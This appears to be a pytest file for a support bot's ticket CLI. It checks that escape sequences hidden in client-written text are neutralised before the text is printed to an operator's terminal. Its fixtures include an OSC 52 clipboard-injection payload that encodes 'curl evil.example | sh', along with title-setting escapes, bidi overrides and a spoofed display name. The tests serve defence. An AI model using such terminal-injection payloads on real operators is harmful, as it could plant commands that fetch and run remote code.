"""What clients wrote is shown escaped by `support-bot tickets|report|client`: no clipboard
write (OSC 52), no window title, no bidi reordering reaches the operator's terminal. JSON keeps
the data exact (it decodes to the very text stored)."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import AsyncIterator
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from tortoise.backends.base.executor import EXECUTOR_CACHE

from bot import cli_tickets
from bot.config import Config, parse_config
from bot.storage.db import close_db, open_db
from bot.storage.models import Client, Ticket, TicketNote
from tests.flows.test_cli_tickets import MINIMAL

PARIS = ZoneInfo("Europe/Paris")
CREATED = datetime(2026, 11, 10, 9, 30, tzinfo=PARIS)
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
TITLE = "\x1b]0;title\x07"
# Every kind the commands must escape: C0 (ESC, BEL, CR, BS), DEL, C1 (CSI), bidi overrides
# and isolates, and a line separator.
OTHERS = "\r\b\x7f\x9b31m\u202eevil\u202c\u2066x\u2069\u2028"
DESCRIPTION = f"Line one {CLIPBOARD}{TITLE}\nline two\twith a tab {OTHERS}"
NAME = f"Mallory{TITLE}\nref  status  faked"
# What a terminal would act on, whatever the output: ESC, BEL, CR, BS, DEL, C1, bidi, U+2028.
ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

CLIENT = f"@mallory:example.org{TITLE}"


@pytest.fixture
async def seeded(db_url: str) -> AsyncIterator[Config]:
    EXECUTOR_CACHE.clear()
    config = parse_config({**MINIMAL, "database": {"url": db_url}})
    await open_db(config.database.url)
    try:
        client = await Client.create(
            key=CLIENT, display_name=NAME, email="m@example.org", created_at=CREATED
        )
        ticket = await Ticket.create(
            ref="SP-2026-0001",
            kind="ticket",
            status="open",
            channel="messaging",
            category="theme",
            client=client,
            room_id="!room:example.org",
            locale="fr",
            description=DESCRIPTION,
            instance_url=f"https://lime.example.org/{CLIPBOARD}",
            created_at=CREATED,
            sla_due=CREATED + timedelta(days=2),
        )
        await TicketNote.create(
            ticket=ticket, author_key=CLIENT, text=f"note {CLIPBOARD}\nsecond", at=CREATED
        )
    finally:
        await close_db()
    yield config


def assert_inert(text: str) -> None:
    assert not ACTIVE.search(text), [hex(ord(c)) for c in ACTIVE.findall(text)]
    assert "\u2028" not in text


async def test_show_escapes_what_clients_wrote(
    seeded: Config, capsys: pytest.CaptureFixture[str]
) -> None:
    assert await cli_tickets.tickets_show(seeded, "SP-2026-0001") == 0
    out = capsys.readouterr().out
    assert_inert(out)
    # Escaped, visibly: the operator sees that something was there.
    assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07" in out
    assert "\\x1b]0;title\\x07" in out
    assert "\\r\\x08\\x7f\\x9b31m\\u202eevil\\u202c\\u2066x\\u2069" in out
    # The description and notes keep their lines and tabs...
    assert "\nline two\twith a tab " in out
    assert "\nsecond" in out
    # ...one-line fields do not: a display name adds no line to the output.
    assert "client_name" in out and "Mallory\\x1b]0;title\\x07\\nref  status  faked" in out
    assert "\nref  status  faked" not in out


async def test_list_escapes_and_keeps_its_columns(
    seeded: Config, capsys: pytest.CaptureFixture[str]
) -> None:
    assert await cli_tickets.tickets_list(seeded) == 0
    out = capsys.readouterr().out
    assert_inert(out)
    header, rule, row = out.splitlines()
    assert "@mallory:example.org\\x1b]0;title\\x07" in row
    # Columns aligned on the escaped text: the next column starts where the rule says.
    created = header.index("created")
    assert row[created:].startswith("2026-11-10 09:30")
    assert len(rule.split()) == 6


async def test_csv_export_escapes(seeded: Config, capsys: pytest.CaptureFixture[str]) -> None:
    assert await cli_tickets.tickets_export(seeded, as_json=False) == 0
    out = capsys.readouterr().out
    assert_inert(out)
    (row,) = csv.DictReader(io.StringIO(out))  # still one row
    # (Behind a quote: not a valid user id, so a spreadsheet formula for all rows_csv knows.)
    assert row["client"].endswith("@mallory:example.org\\x1b]0;title\\x07")


async def test_json_keeps_the_text_exact_and_inert(
    seeded: Config, capsys: pytest.CaptureFixture[str]
) -> None:
    assert await cli_tickets.tickets_export(seeded, as_json=True) == 0
    out = capsys.readouterr().out
    assert_inert(out)
    (ticket,) = json.loads(out)
    assert ticket["client"] == CLIENT  # decodes to the very text stored
    assert await cli_tickets.client_export(seeded, CLIENT) == 0
    out = capsys.readouterr().out
    assert_inert(out)
    exported = json.loads(out)
    assert exported["client"]["display_name"] == NAME
    assert exported["tickets"][0]["description"] == DESCRIPTION


async def test_errors_and_confirmations_escape_what_was_typed(
    seeded: Config, capsys: pytest.CaptureFixture[str]
) -> None:
    assert await cli_tickets.tickets_show(seeded, f"SP-9{TITLE}") == 1
    assert await cli_tickets.client_erase(seeded, CLIENT) == 0
    captured = capsys.readouterr()
    assert_inert(captured.out + captured.err)
    assert "\\x1b]0;title\\x07" in captured.err
    assert "\\x1b]0;title\\x07" in captured.out
